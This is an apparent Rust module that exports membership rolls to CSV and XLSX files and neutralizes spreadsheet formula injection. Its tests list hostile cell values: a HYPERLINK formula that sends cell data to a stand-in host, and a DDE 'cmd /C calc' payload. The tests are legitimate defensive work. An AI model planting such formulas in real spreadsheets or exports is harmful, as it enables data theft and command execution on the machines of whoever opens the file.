//! Member lists out, as officers use them: CSV (UTF-8 with a BOM, so Excel shows Arabic)
//! and XLSX. The columns are the import's canonical ones where they exist, so an export
//! can be corrected and imported again: the number finds the member it updates, and the
//! birth date is there for whoever may see it (blank otherwise, as the CIN is).

use tanzim_store::members::Member;

/// The columns, in order.
pub const COLUMNS: [&str; 14] = [
    "number",
    "first_name_ar",
    "last_name_ar",
    "first_name_lat",
    "last_name_lat",
    "sex",
    "birth_date",
    "commune_code",
    "commune",
    "status",
    "paid_year",
    "joined_on",
    "cin",
    "phone",
];

fn cells(m: &Member) -> [String; 14] {
    let text = |s: &Option<String>| s.clone().unwrap_or_default();
    [
        m.number.clone(),
        text(&m.person.first_name_ar),
        text(&m.person.last_name_ar),
        text(&m.person.first_name_lat),
        text(&m.person.last_name_lat),
        m.person.sex.as_str().to_owned(),
        m.birth_date.map(|d| d.to_string()).unwrap_or_default(),
        m.person.commune_code.clone(),
        text(&m.person.commune_name_fr),
        m.status.as_str().to_owned(),
        m.paid_year.map(|y| y.to_string()).unwrap_or_default(),
        m.joined_on.to_string(),
        m.person.cin.clone(),
        text(&m.person.phone),
    ]
}

/// A cell as a spreadsheet will not run it: text that a spreadsheet would read as a formula
/// (`=`, `+`, `-`, `@`, or a tab or carriage return first) gets a leading apostrophe, which
/// spreadsheets take as "this is text" and the import removes again. A signed number (a
/// phone `+212…`, `-3`) is not a formula that can do harm and is left as it is.
pub fn neutralize(cell: &str) -> std::borrow::Cow<'_, str> {
    let mut chars = cell.chars();
    let risky = match chars.next() {
        Some('=' | '@' | '\t' | '\r') => true,
        Some('+' | '-') => !chars.all(|c| c.is_ascii_digit() || c == ' ' || c == '.'),
        _ => false,
    };
    if risky {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// Undoes [`neutralize`] for a cell read back from a file.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if neutralize(rest).len() != rest.len() => rest,
        _ => cell,
    }
}

/// Writes records as CSV, every cell neutralized: what every CSV the product writes goes
/// through.
pub fn csv_records<I, R>(separator: u8, records: I) -> String
where
    I: IntoIterator<Item = R>,
    R: IntoIterator,
    R::Item: AsRef<str>,
{
    let mut writer = csv::WriterBuilder::new()
        .delimiter(separator)
        .from_writer(Vec::new());
    for record in records {
        // Writing to memory cannot fail.
        let _ = writer.write_record(
            record
                .into_iter()
                .map(|c| neutralize(c.as_ref()).into_owned()),
        );
    }
    let body = writer.into_inner().unwrap_or_default();
    format!("\u{FEFF}{}", String::from_utf8_lossy(&body))
}

pub fn csv(members: &[Member]) -> String {
    let header = COLUMNS.map(str::to_owned);
    csv_records(
        b',',
        std::iter::once(header).chain(members.iter().map(cells)),
    )
}

/// One sheet, right to left, with a bold frozen header and text cells (a CIN or a number
/// never turns into a figure).
pub fn xlsx(members: &[Member], sheet_name: &str) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let header: Vec<String> = COLUMNS.iter().map(|c| c.to_string()).collect();
    let rows: Vec<Vec<String>> = members
        .iter()
        .map(|m| cells(m).into_iter().map(|c| c.to_string()).collect())
        .collect();
    table_xlsx(&header, &rows, sheet_name)
}

/// Any table as one sheet, right to left, with a bold frozen header and text cells (a
/// string cell is never read as a formula).
pub fn table_xlsx(
    header: &[String],
    rows: &[Vec<String>],
    sheet_name: &str,
) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    sheet.set_name(sheet_name)?;
    sheet.set_right_to_left(true);
    let bold = Format::new().set_bold();
    for (col, name) in header.iter().enumerate() {
        sheet.write_string_with_format(0, col as u16, name, &bold)?;
    }
    for (row, values) in rows.iter().enumerate() {
        for (col, value) in values.iter().enumerate() {
            if !value.is_empty() {
                sheet.write_string(row as u32 + 1, col as u16, value)?;
            }
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    sheet.autofit();
    book.save_to_buffer()
}

/// A new file that only the server's own user may read (an export is the roll).
pub fn private_file(path: &std::path::Path) -> std::io::Result<std::fs::File> {
    let mut options = std::fs::OpenOptions::new();
    options.write(true).create_new(true);
    #[cfg(unix)]
    std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
    options.open(path)
}

/// An export written row by row to a file, in constant memory however many rows: the
/// CSV through a buffered writer, the workbook with rust_xlsxwriter's constant-memory
/// sheet (rows go to a temporary file as they come, and are zipped at the end).
pub enum ExportFile {
    Csv(Box<csv::Writer<std::io::BufWriter<std::fs::File>>>),
    Xlsx {
        book: Box<rust_xlsxwriter::Workbook>,
        row: u32,
        file: std::fs::File,
    },
}

#[derive(Debug, thiserror::Error)]
pub enum ExportError {
    #[error("{0}")]
    Io(#[from] std::io::Error),
    #[error("{0}")]
    Csv(#[from] csv::Error),
    #[error("{0}")]
    Xlsx(#[from] rust_xlsxwriter::XlsxError),
}

impl ExportFile {
    /// A new file at `path` with the header row written; `sheet_name` names the
    /// workbook's sheet.
    pub fn create(
        format: tanzim_domain::jobs::ExportFormat,
        path: &std::path::Path,
        sheet_name: &str,
    ) -> Result<ExportFile, ExportError> {
        use std::io::Write;
        use tanzim_domain::jobs::ExportFormat;
        match format {
            ExportFormat::Csv => {
                let mut out = std::io::BufWriter::new(private_file(path)?);
                out.write_all("\u{FEFF}".as_bytes())?;
                let mut writer = csv::WriterBuilder::new().from_writer(out);
                writer.write_record(COLUMNS)?;
                Ok(ExportFile::Csv(Box::new(writer)))
            }
            ExportFormat::Xlsx => {
                use rust_xlsxwriter::{Format, Workbook};
                let mut book = Workbook::new();
                let sheet = book.add_worksheet_with_constant_memory()?;
                sheet.set_name(sheet_name)?;
                sheet.set_right_to_left(true);
                // Rows are gone once written, so the widths are set, not fitted.
                for (col, width) in [14, 14, 16, 14, 16, 5, 11, 13, 18, 10, 9, 11, 11, 15]
                    .iter()
                    .enumerate()
                {
                    sheet.set_column_width(col as u16, *width)?;
                }
                let bold = Format::new().set_bold();
                for (col, name) in COLUMNS.iter().enumerate() {
                    sheet.write_string_with_format(0, col as u16, *name, &bold)?;
                }
                sheet.set_freeze_panes(1, 0)?;
                Ok(ExportFile::Xlsx {
                    book: Box::new(book),
                    row: 1,
                    file: private_file(path)?,
                })
            }
        }
    }

    /// Writes one member's row.
    pub fn push(&mut self, m: &Member) -> Result<(), ExportError> {
        match self {
            ExportFile::Csv(writer) => {
                writer.write_record(cells(m).iter().map(|c| neutralize(c).into_owned()))?;
            }
            ExportFile::Xlsx { book, row, .. } => {
                let sheet = book.worksheet_from_index(0)?;
                for (col, value) in cells(m).iter().enumerate() {
                    if !value.is_empty() {
                        sheet.write_string(*row, col as u16, value)?;
                    }
                }
                *row += 1;
            }
        }
        Ok(())
    }

    /// Completes the file: flushed (CSV) or zipped (workbook).
    pub fn finish(self) -> Result<(), ExportError> {
        match self {
            ExportFile::Csv(writer) => {
                writer
                    .into_inner()
                    .map_err(|e| std::io::Error::other(e.to_string()))?
                    .into_inner()
                    .map_err(|e| e.into_error())?
                    .sync_all()?;
            }
            ExportFile::Xlsx { mut book, file, .. } => {
                book.save_to_writer(&file)?;
                file.sync_all()?;
            }
        }
        Ok(())
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn member() -> Member {
        Member {
            id: 1,
            number: "05091-000001".into(),
            person: tanzim_store::PersonRecord {
                first_name_ar: Some("محمد".into()),
                last_name_ar: Some("العلوي".into()),
                first_name_lat: Some("Mohamed".into()),
                last_name_lat: Some("Alaoui, Jr".into()),
                sex: tanzim_domain::sex::Sex::M,
                cin: "AB123".into(),
                phone: Some("+212612345678".into()),
                email: None,
                address: None,
                commune_code: "05.091.01.07".into(),
                commune_name_ar: None,
                commune_name_fr: Some("Foum Oudi".into()),
                path: String::new(),
                profession: None,
                education: None,
                affiliations: String::new(),
            },
            birth_date: Some("1980-03-12".parse().unwrap()),
            joined_on: "2024-01-01".parse().unwrap(),
            status: tanzim_domain::members::Status::Active,
            status_since: "2024-01-01".parse().unwrap(),
            suspended_until: None,
            paid_year: Some(2026),
            consent_contact: false,
            consent_public: false,
            notes: None,
            card_token: String::new(),
            application_id: None,
        }
    }

    #[test]
    fn cells_that_a_spreadsheet_would_run_are_neutralized() {
        let cases = [
            (
                "=HYPERLINK(\"http://x\"&A1,\"x\")",
                "'=HYPERLINK(\"http://x\"&A1,\"x\")",
            ),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("+212612345678", "+212612345678"),
            ("-3", "-3"),
            ("محمد", "محمد"),
            ("a=b", "a=b"),
            ("", ""),
        ];
        for (cell, expected) in cases {
            assert_eq!(neutralize(cell), expected, "{cell:?}");
            assert_eq!(restore(expected), cell, "{expected:?}");
        }
        assert_eq!(restore("'quoted"), "'quoted");
        let mut m = member();
        m.person.first_name_lat = Some("=1+1".into());
        let out = csv(&[m]);
        assert!(out.contains(",'=1+1,"), "{out}");
        assert!(out.contains(",+212612345678"), "{out}");
    }

    #[test]
    fn an_export_reads_back_as_a_roll() {
        let members = [member()];
        for bytes in [
            csv(&members).into_bytes(),
            xlsx(&members, "members").unwrap_or_default(),
        ] {
            let mapping =
                crate::import::parse_mapping("number=-\ncommune=-\nstatus=-\npaid_year=-");
            let roll = crate::import::read(&bytes, &mapping).unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(roll.rows.len(), 1);
            let p = &roll.rows[0].person;
            assert_eq!(p.first_name_ar.as_deref(), Some("محمد"));
            assert_eq!(p.last_name_lat.as_deref(), Some("Alaoui, Jr"));
            assert_eq!(
                (p.cin.as_str(), p.commune.as_str()),
                ("AB123", "05.091.01.07")
            );
            assert_eq!(roll.rows[0].joined_on.as_deref(), Some("2024-01-01"));
            assert_eq!(roll.rows[0].line, 2);
        }
        assert!(crate::import::is_xlsx(
            &xlsx(&members, "x").unwrap_or_default()
        ));
        assert!(!crate::import::is_xlsx(csv(&members).as_bytes()));
    }

    #[test]
    fn a_streamed_export_is_the_same_file() {
        use tanzim_domain::jobs::ExportFormat;
        let dir = std::env::temp_dir().join(format!("tanzim-export-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let mut second = member();
        second.number = "05091-000002".into();
        second.person.first_name_lat = Some("=1+1".into());
        let members = [member(), second];
        for format in [ExportFormat::Csv, ExportFormat::Xlsx] {
            let path = dir.join(format!("m.{}", format.as_str()));
            let mut file = ExportFile::create(format, &path, "الأعضاء").unwrap();
            for m in &members {
                file.push(m).unwrap();
            }
            file.finish().unwrap();
            let bytes = std::fs::read(&path).unwrap();
            if format == ExportFormat::Csv {
                assert_eq!(String::from_utf8(bytes.clone()).unwrap(), csv(&members));
            }
            let mapping =
                crate::import::parse_mapping("number=-\ncommune=-\nstatus=-\npaid_year=-");
            let roll = crate::import::read(&bytes, &mapping).unwrap_or_else(|e| panic!("{e}"));
            assert_eq!(roll.rows.len(), 2, "{format:?}");
            assert_eq!(roll.rows[1].person.first_name_lat.as_deref(), Some("=1+1"));
            // Never over an existing file; readable by the server's user alone.
            assert!(ExportFile::create(format, &path, "x").is_err());
            #[cfg(unix)]
            {
                use std::os::unix::fs::PermissionsExt;
                let mode = std::fs::metadata(&path).unwrap().permissions().mode();
                assert_eq!(mode & 0o777, 0o600, "{format:?}");
            }
        }
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
